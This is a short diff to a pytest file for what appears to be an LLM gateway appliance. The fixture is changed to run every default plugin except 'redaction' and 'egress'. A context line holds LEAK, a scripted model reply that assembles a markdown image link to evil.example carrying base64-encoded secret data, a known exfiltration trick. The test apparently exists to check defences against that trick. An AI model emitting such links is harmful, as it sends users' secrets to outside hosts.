@@ -11,6 +11,7 @@ import httpx
 import pytest
 
 from mastio.client import Identity
+from mastio.settings import DEFAULT_PLUGINS
 from support.appliance import Appliance, open_appliance
 from support.scripted_provider import Provider, Script, run_provider
 
@@ -22,7 +23,7 @@ LEAK = ["Here you are: ![x](https://evil", ".example/p.png?da", "ta=c2VjcmV0IGRh
 
 @pytest.fixture(scope="module")
 def appliance() -> Iterator[Appliance]:
-    plugins = ["mtls", "dpop", "token", "apikey", "policy", "detectors", "limits", "audit", "llm", "cache"]
+    plugins = [name for name in DEFAULT_PLUGINS if name not in ("redaction", "egress")]
     with open_appliance(stub=None, more=f"[plugins]\nactive = {json.dumps(plugins)}\n") as (running, _):
         yield running
 
